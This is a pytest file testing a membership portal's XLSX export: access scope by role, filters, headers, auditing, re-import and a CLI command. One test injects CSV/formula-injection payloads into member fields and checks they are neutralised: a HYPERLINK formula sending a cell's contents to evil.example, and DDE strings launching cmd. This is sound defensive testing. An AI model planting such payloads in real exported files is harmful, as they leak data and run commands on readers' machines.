"""Member export to XLSX: content read back, scope, the member list's filters, formula neutralisation, the
attachment's headers, the audit entry, a round trip through the import, and the CLI command."""

from __future__ import annotations

import io
import json
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from portal.audit import AuditEntry
from portal.extensions import db
from portal.registry import operations as ops
from portal.registry.exports import EXPORT_COLUMNS
from portal.registry.imports import IN_THIS_ORG, import_file
from portal.registry.models import Category, EventKind, Member, MemberStatus, Organisation
from tests.conftest import DATA, create_member, login

HEADERS = [title for title, _ in EXPORT_COLUMNS]


def read_xlsx(data: bytes) -> tuple[list, list[dict], object]:
    """(header, rows as {header: value}, the worksheet of cells) of the export's first sheet."""
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    values = list(ws.iter_rows(values_only=True))
    header = list(values[0])
    return header, [dict(zip(header, r, strict=True)) for r in values[1:]], ws


def export(client, org, **args):
    r = client.get(f"/orgs/{org.id}/export.xlsx", query_string=args)
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    return r


def test_primary_chair_exports_own_members_with_typed_cells(client, world):
    login(client, world.users["primary_chair"])
    r = export(client, world.school_a)
    assert r.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert r.headers["Content-Disposition"].startswith("attachment")
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in r.headers["Cache-Control"]
    header, rows, ws = read_xlsx(r.data)
    assert header == HEADERS
    assert len(rows) == 1
    m = rows[0]
    assert (m["Фамилия"], m["Имя"], m["Отчество"]) == ("Алексеева", "Анна", "Петровна")
    assert m["Дата рождения"] == datetime(1985, 3, 14)
    assert ws["E2"].is_date and ws["E2"].number_format == "DD.MM.YYYY"
    assert m["Дата вступления в Профсоюз"] == datetime(2010, 9, 1)
    assert (m["Пол"], m["Образование"], m["Форма уплаты взносов"], m["Категория"]) == (
        "женский", "высшее", "безналичная", "работающий")
    assert m["Учёт"] == "состоит на учёте" and m["Электронный профсоюзный билет"] == "не заказан"
    # The workplace is the employer; the union organisation has a column of its own (issue 9 item 8).
    assert m["Место работы"] == world.school_a.institution_name and not m["Место работы"].startswith("ППО")
    assert m["Первичная профсоюзная организация"] == world.school_a.name
    assert isinstance(m["Стаж в Профсоюзе, лет"], int) and m["Стаж в Профсоюзе, лет"] >= 16


def test_territorial_chair_exports_the_territory_and_nothing_above_or_beside(client, world):
    login(client, world.users["territorial_chair"])
    _, rows, _ = read_xlsx(export(client, world.terr_a).data)
    assert sorted(r["Фамилия"] for r in rows) == ["Алексеева", "Борисова"]  # school_a and school_a2
    assert client.get(f"/orgs/{world.region_a.id}/export.xlsx").status_code == 404  # above the chair's scope
    assert client.get(f"/orgs/{world.school_b.id}/export.xlsx").status_code == 404


def test_regional_chair_exports_the_region_with_each_members_organisation(client, world):
    login(client, world.users["regional_chair"])
    _, rows, _ = read_xlsx(export(client, world.region_a).data)
    assert sorted(r["Фамилия"] for r in rows) == ["Алексеева", "Борисова", "Васильева", "Григорьева"]
    orgs = (world.school_a, world.school_a2, world.school_a3, world.college_a)
    assert {r["Первичная профсоюзная организация"] for r in rows} == {o.name for o in orgs}
    assert {r["Место работы"] for r in rows} == {o.institution_name for o in orgs}


def test_primary_chair_cannot_export_another_organisation(client, world):
    login(client, world.users["primary_chair"])
    foreign = client.get(f"/orgs/{world.school_a2.id}/export.xlsx")
    missing = client.get("/orgs/999999/export.xlsx")
    assert foreign.status_code == missing.status_code == 404
    assert foreign.get_data() == missing.get_data()


def test_export_honours_the_member_list_filters(client, world):
    org = world.school_a
    create_member(org, last_name="Студентова", category=Category.STUDENT, position="2 курс")
    gone = create_member(org, last_name="Ушедшая")
    ops.end_membership(None, gone, EventKind.LEFT, date(2020, 1, 10))
    db.session.commit()
    login(client, world.users["primary_chair"])

    def names(**args):
        return sorted(r["Фамилия"] for r in read_xlsx(export(client, org, **args).data)[1])

    assert names() == ["Алексеева", "Студентова"]  # like the list: the active members by default
    assert names(status="all") == ["Алексеева", "Студентова", "Ушедшая"]
    assert names(status="left") == ["Ушедшая"]
    assert names(category="student") == ["Студентова"]
    assert names(q="студ") == ["Студентова"]
    assert names(sort="-name", page="3") == ["Алексеева", "Студентова"]
    rows = read_xlsx(export(client, org, sort="-name").data)[1]
    assert [r["Фамилия"] for r in rows] == ["Студентова", "Алексеева"] and rows[0]["№"] == 1
    bad = client.get(f"/orgs/{org.id}/export.xlsx", query_string={"category": "martian"})
    assert bad.status_code == 400 and "Неизвестное значение фильтра" in bad.get_data(as_text=True)


def test_the_members_page_links_to_the_export_with_its_filters(client, world):
    login(client, world.users["primary_chair"])
    page = client.get(f"/orgs/{world.school_a.id}/members", query_string={"category": "working"})
    text = page.get_data(as_text=True)
    assert f"/orgs/{world.school_a.id}/export.xlsx?category=working" in text
    assert f"/orgs/{world.school_a.id}/import" in text


@pytest.mark.parametrize("field,value", [
    ("position", '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'),
    ("department", "+1+cmd|' /C calc'!A0"),
    ("address", "-2+3"),
    ("address", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("address", "\t=1+1"),
])
def test_text_that_would_be_a_formula_is_neutralised(client, world, field, value):
    m = world.members["a"]
    # Positions and addresses are free text on the card: exactly where a formula could be planted.
    setattr(m, field, value)
    db.session.commit()
    login(client, world.users["primary_chair"])
    data = export(client, world.school_a).data
    header, rows, ws = read_xlsx(data)
    column = {"position": "Должность", "department": "Подразделение", "address": "Адрес проживания"}[field]
    cell = ws.cell(row=2, column=header.index(column) + 1)
    # A text cell holding the text as typed: no formula, and no apostrophe the reader would see (portal/spreadsheets.py).
    assert cell.data_type == "s"
    assert cell.value == value
    # Nothing anywhere in the sheet is stored as a formula.
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)


def test_phone_with_plus_shows_as_typed_and_reads_back(client, world):
    m = world.members["a"]
    m.phone = "+7 (474) 251-97-14"
    db.session.commit()
    login(client, world.users["primary_chair"])
    data = export(client, world.school_a).data
    assert read_xlsx(data)[1][0]["Телефон"] == "+7 (474) 251-97-14"  # no visible apostrophe (issue 9 item 16)
    again = import_file(world.school_a, data, "export.xlsx", None, dry_run=True)
    assert again.refused == [] and again.duplicate_rows[0][2] == IN_THIS_ORG


def test_export_is_audited_with_the_count_and_the_ids(client, world):
    login(client, world.users["territorial_chair"])
    export(client, world.terr_a, category="working")
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "member_export"))
    details = json.loads(entry.details)
    assert details["count"] == 2 and details["filters"] == {"status": "active", "category": "working"}
    # The README promises the ids shown: every member in the file is named (issue 10, item 7).
    expected = set(db.session.scalars(select(Member.id).join(Organisation).where(
        Organisation.path.like(world.terr_a.path + "%"), Member.category == Category.WORKING,
        Member.status == MemberStatus.ACTIVE)))
    assert len(expected) == 2 and set(details["ids"]) == expected
    assert (entry.actor_login, entry.org_id) == ("terrchair", world.terr_a.id)


def test_export_reimports_as_already_registered(client, world):
    """The export's headers are the import's own, so a chair's exported list loads back without any mapping."""
    org = world.school_a
    import_file(org, DATA / "members-1c-export.csv", "a.csv", None)
    db.session.commit()
    login(client, world.users["primary_chair"])
    data = export(client, org).data
    result = import_file(org, data, "export.xlsx", None, dry_run=True)
    assert (result.rows, result.refused, result.imported) == (31, [], 0)
    assert [r for _, _, r in result.duplicate_rows] == [IN_THIS_ORG] * 31
    assert result.mapping["workplace"] == HEADERS.index("Место работы")


def test_too_many_rows_for_one_file_is_refused(make_app, world):
    app = make_app(EXPORT_MAX_ROWS=3)
    client = app.test_client()
    with app.app_context():
        login(client, "regchair")
        r = client.get(f"/orgs/{world.region_a.id}/export.xlsx")
        assert r.status_code == 400 and "Уточните отбор" in r.get_data(as_text=True)
        assert client.get(f"/orgs/{world.terr_a.id}/export.xlsx").status_code == 200


def test_cli_export(app, world, tmp_path):
    out = tmp_path / "list.xlsx"
    runner = app.test_cli_runner()
    r = runner.invoke(args=["export-members", str(world.region_a.id), str(out)])
    assert r.exit_code == 0, r.output
    assert "Выгружено членов Профсоюза: 4" in r.output
    _, rows, _ = read_xlsx(out.read_bytes())
    assert len(rows) == 4
    r = runner.invoke(args=["export-members", str(world.region_a.id), str(out), "--user", "schoolchair"])
    assert r.exit_code == 1 and "нет права" in r.output
    r = runner.invoke(args=["export-members", str(world.terr_a.id), str(out), "--user", "terrchair",
                            "--filter", "status=all", "--filter", "q=Бори"])
    assert r.exit_code == 0, r.output
    assert [x["Фамилия"] for x in read_xlsx(out.read_bytes())[1]] == ["Борисова"]
    bad = tmp_path / "bad.xlsx"
    r = runner.invoke(args=["export-members", str(world.terr_a.id), str(bad), "--filter", "card=plastic"])
    assert r.exit_code == 1 and not bad.exists()
    assert db.session.scalar(select(func.count()).select_from(AuditEntry)
                             .where(AuditEntry.action == "member_export")) == 2
    assert db.session.scalar(select(func.count()).select_from(Member)) == 5
